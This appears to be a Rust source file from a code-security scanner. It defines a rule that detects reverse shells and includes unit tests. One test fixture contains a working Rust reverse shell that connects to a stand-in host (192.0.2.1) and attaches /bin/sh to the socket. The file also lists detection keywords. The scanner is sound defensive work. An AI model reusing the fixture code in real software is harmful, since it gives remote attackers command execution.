//! `reverse-shell`: A shell for somebody else.

use crate::report::Severity;
use crate::rules::{Explanation, Hit, Look, Rule, WAY, hit};
use crate::sign::Sign;

pub(super) const RULE: Rule = Rule {
    explanation: Explanation {
        code: "reverse-shell",
        techniques: &["A4"],
        means: "Somebody at the other end of a connection can have programs run.",
        look: "Who may connect, how that is proved, and what may be run.",
    },
    needs: &[Sign::StreamsFrom, Sign::ReverseShell, Sign::Shell, Sign::Receive, Sign::ShellFlag],
    judge,
};

fn judge(look: &Look<'_>) -> Option<Hit> {
    if look.has(Sign::ReverseShell) && look.starts() {
        return hit(
            Severity::High,
            &[Sign::ReverseShell],
            WAY,
            format!("{} runs a command that hands a shell to somebody else", look.where_it_runs()),
        );
    }
    if !look.any(&[Sign::Net, Sign::Listen]) || !look.starts() {
        return None;
    }
    if look.has(Sign::StreamsFrom)
        && look.any(&[Sign::Shell, Sign::HiddenCommand, Sign::HiddenPath, Sign::CProcess])
    {
        let severity = if look.says(&["shell", "remote", "terminal", "exec", "ssh"]) {
            Severity::Medium
        } else {
            Severity::High
        };
        return hit(
            severity,
            &[Sign::StreamsFrom],
            WAY,
            format!("{} connects a program's input and output with a connection", look.where_it_runs()),
        );
    }
    let receives = look.has(Sign::Receive) && (!look.is_build() || look.has(Sign::ShellFlag));
    if receives && look.any(&[Sign::Shell, Sign::ShellFlag]) && (look.is_close() || look.scope.is_whole) {
        return hit(
            Severity::Medium,
            &[Sign::ShellFlag, Sign::Shell],
            WAY,
            format!("{} reads from a connection and starts a shell", look.where_it_runs()),
        );
    }
    if look.has(Sign::StreamsFrom) && look.is_close() {
        return hit(
            Severity::Medium,
            &[Sign::StreamsFrom],
            WAY,
            format!("{} sets up the streams of a process where it has a connection", look.where_it_runs()),
        );
    }
    None
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::Severity;
    use crate::rules::fixture::{fires, is_quiet};

    #[test]
    fn it_fires() {
        fires(
            &RULE,
            "src/lib.rs",
            r##"use std::{net::TcpStream as S, os::fd::{FromRawFd, AsRawFd}, process::{Command, Stdio}};
pub fn f() {
    let s = S::connect("192.0.2.1:9").unwrap();
    let fd = s.as_raw_fd();
    let io = || unsafe { Stdio::from_raw_fd(fd) };
    Command::new("/bin/sh").stdin(io()).stdout(io()).spawn().unwrap();
}"##,
            Severity::High,
        );
    }

    #[test]
    fn look_alikes_are_left_alone() {
        is_quiet(
            &RULE,
            "src/lib.rs",
            r##"pub fn f() { let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap(); drop(l); }
pub fn g() { std::process::Command::new("ls").spawn().unwrap(); }"##,
        );
    }
}
